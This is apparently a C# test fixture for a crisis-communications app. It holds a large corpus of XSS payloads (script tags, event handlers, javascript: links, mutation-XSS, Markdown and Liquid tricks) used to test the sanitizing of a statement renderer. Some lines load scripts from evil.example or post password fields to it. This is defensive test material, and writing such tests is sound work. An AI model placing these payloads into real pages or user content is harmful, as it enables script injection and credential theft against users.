namespace CrisisComms.Tests.Features.Statements;

/// <summary>
/// Hostile inputs for the statement rendering pipeline, one payload per line ('#' lines are comments).
/// Kept as C# so the test project needs no content-file entry; payloads that need invisible or
/// control characters are in <see cref="Escaped"/>, written with C# escapes so they stay readable.
/// </summary>
internal static class XssCorpus
{
    private const string Lines = """"
        # ---- <script> variants: case, nesting, broken, encoded -----------------------------------
        <script>alert(1)</script>
        <SCRIPT>alert(1)</SCRIPT>
        <ScRiPt>alert(1)</sCrIpT>
        <script src=https://evil.example/x.js></script>
        <script src="//evil.example/x.js"></script>
        <script type="text/javascript">alert(document.cookie)</script>
        <script>alert(String.fromCharCode(88,83,83))</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <<script>alert(1)//<</script>
        <script>alert(1)
        <script/xss src=https://evil.example/x.js></script>
        <script	>alert(1)</script>
        <script >alert(1)</script >
        <script/src=data:text/javascript,alert(1)></script>
        <script>/*</script><script>alert(1)//*/</script>
        </script><script>alert(1)</script>
        "><script>alert(1)</script>
        '><script>alert(1)</script>
        --><script>alert(1)</script>
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        &#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
        \x3cscript\x3ealert(1)\x3c/script\x3e
        \u003cscript\u003ealert(1)\u003c/script\u003e
        %3Cscript%3Ealert(1)%3C/script%3E
        `<script>alert(1)</script>`
        ```<script>alert(1)</script>```
        > <script>alert(1)</script>
        - <script>alert(1)</script>
        **<script>alert(1)</script>**
        | a | <script>alert(1)</script> |
        <script>alert`1`</script>
        <script x>alert(1)</script y>
        <!--<script>alert(1)//--><script>alert(1)</script>
        # ---- event handlers on many tags ---------------------------------------------------------
        <img src=x onerror=alert(1)>
        <IMG SRC=x ONERROR=alert(1)>
        <img src="x" onerror="alert(1)">
        <img src=x onerror="javascript:alert(1)">
        <img/src=x/onerror=alert(1)>
        <img src=x:alert(alt) onerror=eval(src) alt=0>
        <img src onerror=alert(1)>
        <img """><script>alert(1)</script>">
        <body onload=alert(1)>
        <body onpageshow=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <div onclick="alert(1)">click me</div>
        <a onclick="alert(1)">click</a>
        <a href="https://example.com" onclick="alert(1)">link</a>
        <a onmouseover=alert(1)>hover</a>
        <p onmouseover="alert(1)">hover</p>
        <b onmouseover=alert(1)>bold</b>
        <h1 onclick=alert(1)>heading</h1>
        <table onmouseover=alert(1)><tr><td>x</td></tr></table>
        <td onclick=alert(1)>cell</td>
        <li onfocus=alert(1) tabindex=1>item</li>
        <input onfocus=alert(1) autofocus>
        <input autofocus onfocus=alert(1)>
        <select autofocus onfocus=alert(1)>
        <textarea autofocus onfocus=alert(1)>
        <keygen autofocus onfocus=alert(1)>
        <details open ontoggle=alert(1)>
        <marquee onstart=alert(1)>x</marquee>
        <video src=x onerror=alert(1)>
        <video><source onerror=alert(1)></video>
        <audio src=x onerror=alert(1)>
        <object onerror=alert(1)>
        <iframe onload=alert(1)>
        <form onsubmit=alert(1)><button>go</button></form>
        <button onclick=alert(1)>press</button>
        <div onpointerover=alert(1)>x</div>
        <div onanimationstart=alert(1) style="animation:x">x</div>
        <x onclick=alert(1)>custom tag</x>
        <a href=# onfocus=alert(1) autofocus>x</a>
        <p title="x" onclick="alert(1)" >x</p>
        <strong/onclick=alert(1)>x</strong>
        <em	onclick=alert(1)>x</em>
        <blockquote onclick=alert(1)>q</blockquote>
        <ol start=1 onclick=alert(1)><li>x</li></ol>
        <code onclick=alert(1)>x</code>
        <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
        # ---- dangerous URL schemes as HTML ------------------------------------------------------
        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href="&#106;avascript:alert(1)">x</a>
        <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>
        <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
        <a href="java&#x09;script:alert(1)">x</a>
        <a href="java&#x0A;script:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="livescript:alert(1)">x</a>
        <img src="javascript:alert(1)">
        <img src=JaVaScRiPt:alert(1)>
        <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <img dynsrc="javascript:alert(1)">
        <img lowsrc="javascript:alert(1)">
        <a href="https://example.com" formaction="javascript:alert(1)">x</a>
        <a xlink:href="javascript:alert(1)">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="//evil.example/">protocol-relative</a>
        # ---- Markdown link and image tricks ------------------------------------------------------
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](javascript:alert(document.domain) "title")
        [x](<javascript:alert(1)>)
        [x](&#106;avascript:alert(1))
        [x](&#x6A;avascript:alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&colon;alert(1))
        [x](jav&#x09;ascript:alert(1))
        [x](jav&#x0A;ascript:alert(1))
        [x](jav&#x0D;ascript:alert(1))
        [x](&#x20;javascript:alert(1))
        [x](javascript%3Aalert(1))
        [x](java%0ascript:alert(1))
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](data:text/html,<script>alert(1)</script>)
        [x](vbscript:msgbox(1))
        [x](VBScript:msgbox(1))
        [x](file:///etc/passwd)
        [x](//evil.example)
        [x](\javascript:alert(1))
        [x](javascript://%0aalert(1))
        [x](javascript://example.com/%0Aalert(1))
        [x](https://example.com"onclick="alert(1))
        [x](https://example.com "a" onclick="alert(1)")
        [x](https://example.com 'it"s' )
        [x](https://example.com "title with \" quote")
        [x](https://example.com "\"><script>alert(1)</script>")
        [x](https://example.com '"><img src=x onerror=alert(1)>')
        [x](https://example.com (paren"><svg onload=alert(1)>))
        [<img src=x onerror=alert(1)>](https://example.com)
        [x](https://example.com/<script>alert(1)</script>)
        [x](https://example.com/"><script>alert(1)</script>)
        [x](https://example.com/?q=<script>)
        [a](javascript:alert(1))[b](javascript:alert(2))
        [[x](javascript:alert(1))](https://example.com)
        ![x](javascript:alert(1))
        ![x](JaVaScRiPt:alert(1))
        ![x](https://evil.example/x.png)
        ![x](https://evil.example/x.png "t" onerror="alert(1)")
        ![x" onerror="alert(1)](https://evil.example/x.png)
        ![<img src=x onerror=alert(1)>](x)
        ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
        [![x](javascript:alert(1))](javascript:alert(2))
        [x][1] [1]: javascript:alert(1)
        [x][evil] [evil]: JaVaScRiPt:alert(1) "title"
        [x][] [x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
        [x] [x]: vbscript:msgbox(1)
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <vbscript:msgbox(1)>
        <data:text/html,<script>alert(1)</script>>
        <data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
        <javascript://%0aalert(1)>
        <mailto:a@example.com?body=<script>alert(1)</script>>
        <https://example.com/"onmouseover="alert(1)>
        https://example.com/"onmouseover="alert(1)
        www.example.com/"><script>alert(1)</script>
        javascript:alert(1)
        http://javascript:alert(1)
        [x](mailto:javascript:alert(1))
        [x](https:javascript:alert(1))
        # ---- SVG and MathML --------------------------------------------------------------------
        <svg><script>alert(1)</script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
        <svg><image href=x onerror=alert(1)></svg>
        <svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>
        <svg><desc><img src=x onerror=alert(1)></desc></svg>
        <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
        <math><mi xlink:href="javascript:alert(1)">x</mi></math>
        <math href="javascript:alert(1)">x</math>
        <math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
        <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
        <math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
        # ---- mutation XSS ----------------------------------------------------------------------
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
        <noscript><style></noscript><img src=x onerror=alert(1)>
        <style><img src=x onerror=alert(1)></style>
        <style></style><img src=x onerror=alert(1)>
        <template><script>alert(1)</script></template>
        <template><img src=x onerror=alert(1)></template>
        <textarea></textarea><img src=x onerror=alert(1)>
        <textarea><img src=x onerror=alert(1)></textarea>
        <title><img src=x onerror=alert(1)></title>
        </title><img src=x onerror=alert(1)>
        <xmp><img src=x onerror=alert(1)></xmp>
        <plaintext><img src=x onerror=alert(1)>
        <iframe><img src=x onerror=alert(1)></iframe>
        <noembed><img src=x onerror=alert(1)></noembed>
        <noframes><img src=x onerror=alert(1)></noframes>
        <select><template><img src=x onerror=alert(1)></template></select>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <a title="</a><img src=x onerror=alert(1)>">x</a>
        <p title="<img src=x onerror=alert(1)>">x</p>
        <table><td><img src=x onerror=alert(1)></td></table>
        <table><style><img src=x onerror=alert(1)></style></table>
        <a href="https://example.com/</a><img src=x onerror=alert(1)>">x</a>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <div id="x"><!--</div><img src=x onerror=alert(1)>-->
        # ---- frames, objects, forms, meta, base, link ------------------------------------------
        <iframe src="javascript:alert(1)"></iframe>
        <iframe src="https://evil.example/"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
        <frameset><frame src="javascript:alert(1)"></frameset>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>
        <embed src="javascript:alert(1)">
        <embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <applet code="Evil.class"></applet>
        <form action="javascript:alert(1)"><input type=submit></form>
        <form action="https://evil.example/steal"><input name=password type=password></form>
        <button formaction="javascript:alert(1)">x</button>
        <input type="image" src="javascript:alert(1)">
        <isindex action="javascript:alert(1)" type=image>
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv="refresh" content="0; url=https://evil.example/">
        <meta charset="x-imap4-modified-utf7">
        <base href="javascript:alert(1)//">
        <base href="https://evil.example/">
        <link rel="import" href="https://evil.example/x.html">
        <link rel="stylesheet" href="javascript:alert(1)">
        <link rel="stylesheet" href="https://evil.example/x.css">
        <portal src="https://evil.example/"></portal>
        # ---- style attributes and style elements -----------------------------------------------
        <p style="background:url(javascript:alert(1))">x</p>
        <div style="width: expression(alert(1));">x</div>
        <div style="behavior: url(xss.htc);">x</div>
        <div style="-moz-binding: url(https://evil.example/xss.xml#x)">x</div>
        <div style="background-image: url(&#1;javascript:alert(1))">x</div>
        <p style="color: red">innocent looking</p>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
        <style>body{background:url("javascript:alert(1)")}</style>
        <style>@import 'https://evil.example/x.css';</style>
        <style>*{x:expression(alert(1))}</style>
        <STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><ul><li>x</li></ul>
        <div style="x:\65xpression(alert(1))">x</div>
        <div style="background:url('javascript:alert(1)')">x</div>
        # ---- HTML comments and CDATA ------------------------------------------------------------
        <!-- <script>alert(1)</script> -->
        <!--><img src=x onerror=alert(1)>-->
        <!--- --><img src=x onerror=alert(1)>
        <!-- --!><img src=x onerror=alert(1)>
        <![CDATA[<script>alert(1)</script>]]>
        <![CDATA[><img src=x onerror=alert(1)>]]>
        <?xml version="1.0"?><script>alert(1)</script>
        <!DOCTYPE html><script>alert(1)</script>
        <? echo('<script>alert(1)</script>'); ?>
        <% alert(1) %>
        # ---- Liquid-level attempts (strict Liquid must refuse or print them as text) ----------
        {{ '<script>alert(1)</script>' }}
        {{ "<img src=x onerror=alert(1)>" }}
        {% raw %}<script>alert(1)</script>{% endraw %}
        {{ "javascript:alert(1)" | prepend: "[x](" | append: ")" }}
        {% assign s = "<script>" %}{{ s }}alert(1)
        {% capture c %}<img src=x onerror=alert(1)>{% endcapture %}{{ c }}
        {{ facts.evil | replace: "x", "<script>" }}
        # ---- miscellaneous ----------------------------------------------------------------------
        <a href="https://example.com" target="_blank">tabnabbing</a>
        <a href="https://example.com" rel="opener" ping="https://evil.example/">x</a>
        <a href="https://example.com" id="__proto__" name="location" class="x">clobber</a>
        <img name="getElementById">
        <form id="test"><input id="attributes"></form>
        <a href="https://example.com" download>x</a>
        <bgsound src="javascript:alert(1)">
        <br size="&{alert(1)}">
        <layer src="https://evil.example/x.js"></layer>
        <xss style="behavior: url(xss.htc);">
        <div data-bind="html: alert(1)">knockout</div>
        <div ng-app>{{constructor.constructor('alert(1)')()}}</div>
        <a href="https://example.com" style="color:red">styled link</a>
        <ol start="1 onclick=alert(1)"><li>x</li></ol>
        <a title="x" href="javascript:alert(1)">x</a>
        """";

    /// <summary>Payloads that need control, invisible or non-ASCII characters.</summary>
    private static readonly string[] Escaped =
    [
        "# <script>alert(1)</script>",
        "### [x](javascript:alert(1))",
        "[x](java\u200Bscript:alert(1))",
        "[x](\u200Bjavascript:alert(1))",
        "[x](java\u00ADscript:alert(1))",
        "[x](javascript\uFF1Aalert(1))",
        "[x](\uFF4Aavascript:alert(1))",
        "<a href=\"java\u200Dscript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"\u0000javascript:alert(1)\">x</a>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<img src=x on\u0000error=alert(1)>",
        "<img src=x\u000Conerror=alert(1)>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<\u0000script>alert(1)</script>",
        "<script\u200B>alert(1)</script>",
        "\u202E<script>alert(1)</script>",
        "[x](\tjavascript:alert(1))",
        "<a href=\"javascript\u2028:alert(1)\">x</a>",
        "<svg\u000Conload=alert(1)>",
        "<a href=\"&#x200B;javascript:alert(1)\">x</a>",
        "<img src=x onerror=\"alert(1)\"\u00A0>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u00BCscript\u00BEalert(\u00A21\u00A2)\u00BC/script\u00BE",
        "[x](javascript:alert(1))\r\n[y](vbscript:msgbox(1))",
        "<a\nhref=\"javascript:alert(1)\">x</a>",
        "<img\nsrc=x\nonerror=alert(1)>",
        "line one\n\n<script>alert(1)</script>\n\nline three",
        "[x]\n\n[x]: javascript:alert(1)",
        "[x][1]\n\n[1]: <javascript:alert(1)> \"title\"",
        "![x][img]\n\n[img]: javascript:alert(1)",
        "[x][d]\n\n[d]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<div\n>\n<script>alert(1)</script>\n</div>",
        "> [x](javascript:alert(1))\n> <img src=x onerror=alert(1)>",
        "1. [x](javascript:alert(1))\n2. ![y](javascript:alert(2))",
    ];

    /// <summary>Every payload, comments and blank lines dropped, duplicates removed, in file order.</summary>
    public static IReadOnlyList<string> Payloads { get; } =
        Lines.Split('\n')
            .Select(l => l.TrimEnd('\r'))
            .Where(l => l.Trim().Length > 0 && !l.TrimStart().StartsWith('#'))
            .Concat(Escaped)
            .Distinct(StringComparer.Ordinal)
            .ToList();

    /// <summary>Everything written in the corpus, before removing duplicates (to check it has no accidental repeats).</summary>
    public static int WrittenCount =>
        Lines.Split('\n').Count(l => l.Trim().Length > 0 && !l.TrimStart().StartsWith('#')) + Escaped.Length;
}
